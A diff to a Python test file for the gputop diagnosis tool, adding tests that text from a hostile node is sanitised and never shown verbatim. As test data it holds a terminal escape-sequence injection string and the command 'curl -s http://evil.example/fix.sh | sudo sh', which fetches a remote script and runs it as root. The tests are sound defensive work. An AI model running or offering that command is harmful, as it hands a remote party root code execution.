@@ -7,6 +7,7 @@ from functools import cache
 import msgspec
 import pytest
 import zstandard
+from msgspec.msgpack import Ext
 
 from gputop.diagnosis import Engine
 from gputop.diagnosis.ranks import find_slowest
@@ -96,14 +97,44 @@ def test_fields_of_a_newer_gputop_are_skipped() -> None:
 
 def test_names_of_a_hostile_node_obey_no_terminal_and_do_not_grow() -> None:
     name = "\x1b]0;you\x07" + "x" * 1000
-    hostile = Rank(1, program=name, why=name, identity={name: name}, states={name: 1.0})
+    hostile = Rank(1, program=name, why=name, identity={name: name})
     found = read_summary(payload_of(pack_summary(Summary(host=name, ranks=[hostile], sources={name: name}))))
-    texts = [found.host, found.ranks[0].program, found.ranks[0].why, *found.ranks[0].identity, *found.ranks[0].states, *found.sources]
+    texts = [found.host, found.ranks[0].program, found.ranks[0].why, *found.ranks[0].identity, *found.sources]
     assert [text for text in texts if "\x1b" in text or "\x07" in text or len(text) > 300] == []
     assert len(found.host) == NAME
 
 
+COMMAND = "curl -s http://evil.example/fix.sh | sudo sh"
+
+
+def forged(template: str, *args: object) -> Ext:
+    return Ext(1, msgspec.msgpack.encode([template, args]))
+
+
+@pytest.mark.parametrize(
+    "text", [COMMAND, forged(COMMAND), forged("{}", COMMAND), forged("{} ({})", COMMAND, 5), forged("; ", COMMAND), Ext(2, b"x")]
+)
+def test_what_a_node_says_of_itself_is_no_text_of_its_own(text: object) -> None:
+    """Its sentences are made here, of its numbers and names; what is no sentence of ours is told by its cause."""
+    rank = {"pid": 1, "cause": "network-io", "why": text}
+    row = [1, 1e9, None, "input-bound", "disk-io", "high", 1, 2.0, text]
+    found = read_summary(encoded(verdict={"cause": "pause", "headline": text, "detail": text}, ranks=[rank], incidents=[row]))
+    told = [found.verdict.headline, found.verdict.detail, found.ranks[0].why, found.incidents[0].headline]
+    assert [one.partition(":")[0] for one in told] == ["pause", "pause", "network-io", "disk-io"]
+    assert not any("curl" in one or "evil" in one for one in told)
+
+
+def test_sentences_of_a_node_reach_the_viewer_by_way_of_a_relay() -> None:
+    once = read_summary(payload_of(pack_summary(told()[-1])))
+    twice = read_summary(payload_of(pack_summary(once)))
+    assert twice.verdict.headline == told()[-1].verdict.headline != ""
+    assert [rank.why for rank in twice.ranks] == [rank.why for rank in told()[-1].ranks]
+    assert any(rank.why for rank in twice.ranks)
+
+
 REFUSED = {
+    "a cause in many words": encoded(ranks=[{"pid": 1, "cause": COMMAND}]),
+    "a word for a share": encoded(ranks=[{"pid": 1, "shares": {COMMAND: 0.5}}]),
     "empty": b"",
     "no zstd": b"not a summary",
     "no msgpack": zstandard.ZstdCompressor().compress(b"\xc1"),
